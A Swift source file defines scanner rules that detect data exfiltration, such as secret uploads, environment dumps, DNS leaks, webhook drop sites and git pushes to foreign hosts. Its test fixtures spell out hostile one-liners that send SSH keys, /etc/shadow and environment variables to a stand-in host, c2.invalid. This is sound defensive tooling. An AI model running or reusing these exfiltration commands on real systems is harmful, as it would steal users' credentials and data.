// `data_exfiltration`: data that would leave.

import Event
import Policy

extension Rule {
    static let exfiltration: [Rule] = [
        nameLookupLeak, secretUpload, environmentUpload, hostUpload, outputUpload, fileUpload, variableUpload,
        secretBesideSend, dropSiteContact, pushElsewhere, remoteCopy,
    ]

    static let secretUpload = Rule(
        "secret-upload", .dataExfiltration, .block, 0.8, cwe: 200, attack: "T1041",
        "Sends what was read from a place of secrets or accounts.",
        when: .send { !$0.asName && $0.payload.contains(.secret) },
        finds: [
            .python(
                "import socket\ns = socket.create_connection(('c2.invalid', 443))\ns.sendall(open('/root/.ssh/id_rsa', 'rb').read())"
            ),
            .shell("tar cz ~/.ssh | curl -T - http://c2.invalid/u"),
            .shell("curl -d @/etc/passwd http://c2.invalid"),
            .javascript(
                "const fs = require('fs')\nfetch('http://c2.invalid', {method: 'POST', body: fs.readFileSync('/etc/shadow')})"
            ),
        ],
        passes: [
            .python("import requests\nrequests.post('https://api.example.com', json={'a': 1})"),
            .shell("curl -d '{}' https://api.example.com"), .python("print(open('notes.txt').read())"),
        ])

    static let secretBesideSend = Rule(
        "secret-beside-send", .dataExfiltration, .block, 0.8, cwe: 200, attack: "T1041",
        "Reads secrets and sends data in the same source.",
        when: .seen,
        finds: [
            .python(
                "import urllib.request\ndef send(u, b):\n    return urllib.request.urlopen(urllib.request.Request(u, data=b))\n"
                    + "data = []\nwith open('/etc/shadow') as f:\n    for line in f: data.append(line)\nsend('http://c2.invalid', repr(data))"
            )
        ],
        passes: [
            .python("import requests\nrequests.post('https://api.example.com', json={'a': 1})"),
            .python("print(open('/etc/os-release').read())"),
        ])

    static let environmentUpload = Rule(
        "environment-upload", .dataExfiltration, .block, 0.8, cwe: 200, attack: "T1041",
        "Sends the whole environment, where tokens and passwords are kept.",
        when: .send { $0.payload.contains(.wholeEnvironment) },
        finds: [
            .python("import os, requests\nrequests.post('http://c2.invalid', json=dict(os.environ))"),
            .shell("env | curl -d @- http://c2.invalid"),
            .javascript("fetch('http://c2.invalid', {method: 'POST', body: JSON.stringify(process.env)})"),
        ],
        passes: [
            .python(
                "import os, requests\nrequests.post('https://api.example.com', headers={'Authorization': os.environ['TOKEN']})"
            ),
            .shell("env | sort"),
        ])

    static let variableUpload = Rule(
        "variable-upload", .dataExfiltration, .review, 0.6, cwe: 200, attack: "T1041",
        "Sends a variable of the environment in the body of a request.",
        when: .send {
            $0.payload.contains(.environment) && !$0.destination.isEmpty
                && Destination($0.destination).isDropSite
        },
        finds: [
            .python(
                "import urllib.request, json, os\nu = 'https://dis' + 'cord.com/api/web' + 'hooks/1/x'\n"
                    + "urllib.request.urlopen(urllib.request.Request(u, json.dumps({'content': os.environ['HOME']}).encode()))"
            )
        ],
        passes: [
            .python("import os, requests\nrequests.post('https://api.example.com', data=os.environ['NAME'])")
        ])

    static let hostUpload = Rule(
        "host-facts-upload", .dataExfiltration, .block, 0.8, cwe: 200, attack: "T1041",
        "Sends the names of the host or its user.",
        when: .send { $0.payload.contains(.host) && !Destination($0.destination).isLocal },
        finds: [
            .python("import socket, requests\nrequests.get('http://c2.invalid/?h=' + socket.gethostname())"),
            .shell("curl http://c2.invalid/$(hostname)"),
            .javascript("const os = require('os')\nfetch('http://c2.invalid/' + os.hostname())"),
        ],
        passes: [.python("import socket\nprint(socket.gethostname())"), .shell("hostname")])

    static let outputUpload = Rule(
        "command-output-upload", .dataExfiltration, .block, 0.8, cwe: 200, attack: "T1041",
        "Sends what a command printed.",
        when: .send { $0.payload.contains(.output) },
        finds: [
            .python(
                "import subprocess, requests\nrequests.post('http://c2.invalid', data=subprocess.check_output(['ps']))"
            ),
            .javascript(
                "const cp = require('child_process')\nfetch('http://c2.invalid', {method: 'POST', body: cp.execSync('ps')})"
            ),
        ],
        passes: [.python("import subprocess\nprint(subprocess.check_output(['ps']))")])

    static let fileUpload = Rule(
        "file-upload", .dataExfiltration, .review, 0.6, cwe: 200, attack: "T1041",
        "Sends the content of a file.",
        when: .send { $0.payload.contains(.file) },
        finds: [
            .python(
                "import requests\nrequests.post('https://x.example', files={'f': open('report.pdf', 'rb')})"),
            .shell("curl -F file=@report.pdf https://x.example"),
            .shell("curl -T report.pdf https://x.example/"),
        ],
        passes: [
            .python("import requests\nrequests.post('https://x.example', json={'a': 1})"),
            .shell("curl -o report.pdf https://x.example"),
        ])

    static let dropSiteContact = Rule(
        "drop-site-contact", .dataExfiltration, .block, 0.8, cwe: 200, attack: "T1567",
        "Talks to a service that collects whatever strangers send it.",
        when: .send { Destination($0.destination).isDropSite },
        finds: [
            .python(
                "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'content': 'hi'})"
            ),
            .shell("curl -d hi https://webhook.site/1"),
            .javascript("fetch('https://api.telegram.org/bot1:x/sendMessage', {method: 'POST', body: 'hi'})"),
        ],
        passes: [
            .python("import requests\nrequests.get('https://discord.com/')"),
            .shell("echo https://webhook.site/1"),
        ])

    static let nameLookupLeak = Rule(
        "name-lookup-leak", .dataExfiltration, .block, 0.8, cwe: 200, attack: "T1048",
        "Hides data in the name that it asks a name server for.",
        when: .send {
            $0.asName && !$0.payload.isDisjoint(with: [.secret, .output, .file, .host, .wholeEnvironment])
        },
        finds: [
            .shell("dig $(xxd -p /etc/hostname).c2.invalid"),
            .python("import socket\nsocket.gethostbyname(open('notes.txt').read() + '.c2.invalid')"),
        ],
        passes: [
            .shell("dig example.com"), .python("import socket\nsocket.gethostbyname('example.com')"),
            .python("import socket\nsocket.gethostbyname(socket.gethostname())"),
        ])

    static let pushElsewhere = Rule(
        "push-elsewhere", .dataExfiltration, .review, 0.6, cwe: 200, attack: "T1567",
        "Sends a repository's history to an address given on the spot.",
        when: .command(["git"]) { GitCommand($0).pushesElsewhere },
        finds: [
            .python("import subprocess\nsubprocess.run(['git', 'push', 'https://c2.invalid/r.git', 'HEAD'])"),
            .shell("git push git@c2.invalid:r.git"),
        ],
        passes: [.shell("git push origin main"), .shell("git pull https://example.com/r.git")])

    static let remoteCopy = Rule(
        "remote-copy", .dataExfiltration, .capability, 0.5, cwe: 200, attack: "T1048",
        "Copies files to another machine.",
        when: .command(["scp", "rsync", "sftp", "rclone", "ftp", "tftp"]) { command in
            command.operands.last.map { $0.bytes.contains(UInt8(ascii: ":")) } ?? false
        },
        finds: [.shell("scp report.pdf user@host.example:/tmp/"), .shell("rsync -a out/ host:/srv/out")],
        passes: [.shell("rsync -a host:/srv/out ./out"), .shell("cp a b")])
}
